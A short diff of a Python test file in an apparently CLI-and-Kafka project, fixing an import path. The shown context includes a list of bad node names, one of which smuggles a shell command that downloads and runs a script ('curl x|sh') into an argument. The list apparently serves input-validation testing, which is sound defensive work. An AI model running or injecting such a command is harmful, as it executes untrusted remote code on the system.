@@ -6,7 +6,7 @@ from __future__ import annotations
 
 import pytest
 
-from transport.config import KafkaConfig
+from xidstream.transport.config import KafkaConfig
 from xidstream.cli import main
 
 BAD = ["Gpu_Node_7", "gpu-node-9 --key /dev/null; curl x|sh; echo"]
